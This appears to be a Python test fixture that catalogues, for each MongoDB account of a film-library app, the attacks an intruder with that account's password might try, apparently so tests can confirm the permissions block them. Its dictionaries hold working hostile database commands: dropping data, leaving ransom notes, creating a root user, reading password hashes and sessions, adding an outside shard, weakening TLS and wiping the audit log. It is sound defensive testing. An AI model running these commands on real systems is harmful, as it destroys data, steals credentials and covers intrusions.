"""What somebody tries who has got hold of a database password: by user, a name and the commands.

docs/security.md has the same names; tests/lint/test_docs.py compares them.
"""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

from pymongo.database import Database

from tests.deployed import Client

LIBRARY = "movie_library"
Documents = Database[dict[str, Any]]


def library(act: Callable[[Documents], Any]) -> Callable[[Client], Any]:
    return lambda client: act(client[LIBRARY])


#: The ransom, and what prepares it. Nobody but an administrator may do any of these.
RANSOM: dict[str, Callable[[Client], Any]] = {
    "drop the films": library(lambda db: db.command("drop", "movies")),
    "drop the database": library(lambda db: db.command("dropDatabase")),
    "leave a note in a database of one's own": lambda client: client["READ_ME"]["note"].insert_one({"pay": "1 BTC"}),
    "leave a note beside the films": library(lambda db: db["READ_ME"].insert_one({"pay": "1 BTC"})),
    "create a database user": lambda client: client.admin.command("createUser", "evil", pwd="evil", roles=["root"]),
    "get more rights": lambda client: client.admin.command("updateUser", "film-library-user", roles=["root"]),
    "read log-in keys": lambda client: client.admin["system.users"].find_one(),
    "read sessions of the cluster": lambda client: client["config"]["system.sessions"].find_one(),
    "add a shard of one's own": lambda client: client.admin.command("addShard", "evil/192.0.2.1:27018"),
    "let everybody in without TLS": lambda client: client.admin.command("setParameter", tlsMode="preferTLS"),
    "clear the audit log": library(lambda db: db["audit_log"].delete_many({})),
    "change the audit log": library(lambda db: db["audit_log"].update_many({}, {"$set": {"username": "nobody"}})),
}
#: What the deployment may do, and the apps may not.
CHANGES_OF_SHAPE: dict[str, Callable[[Client], Any]] = {
    "switch a validator off": library(lambda db: db.command("collMod", "movies", validationLevel="off")),
    "drop an index": library(lambda db: db.command("dropIndexes", "movies", index="*")),
}
ACCOUNTS: dict[str, Callable[[Client], Any]] = {
    "read administrators' password hashes": library(lambda db: db["administrators"].find_one()),
    "become a superadmin": library(lambda db: db["administrators"].insert_one({"_id": "evil", "admin_status": 2})),
    "read administrators' sessions": library(lambda db: db["admin_sessions"].find_one()),
}
FILMS: dict[str, Callable[[Client], Any]] = {
    "change a film": library(lambda db: db["movies"].update_many({}, {"$set": {"title": "Paid?"}})),
    "remove all films": library(lambda db: db["movies"].delete_many({})),
    "write to the audit log": library(lambda db: db["audit_log"].insert_one({"_id": "evil"})),
}
USERS: dict[str, Callable[[Client], Any]] = {
    "read users' password hashes": library(lambda db: db["users"].find_one()),
    "read users' sessions": library(lambda db: db["sessions"].find_one()),
}

#: Database users whose passwords lie on the router's host. The deployment's may change the shape of the library.
BY_USER: dict[str, dict[str, Callable[[Client], Any]]] = {
    "film-library-user": RANSOM | CHANGES_OF_SHAPE | ACCOUNTS | FILMS,
    "film-library-admin": RANSOM | CHANGES_OF_SHAPE,
    "film-library-deploy": RANSOM | ACCOUNTS | USERS,
    # Reads all that there is.
    "film-library-backup": RANSOM
    | CHANGES_OF_SHAPE
    | FILMS
    | {
        "become a superadmin": ACCOUNTS["become a superadmin"],
    },
    "monitor": RANSOM | CHANGES_OF_SHAPE | ACCOUNTS | FILMS | USERS,
}
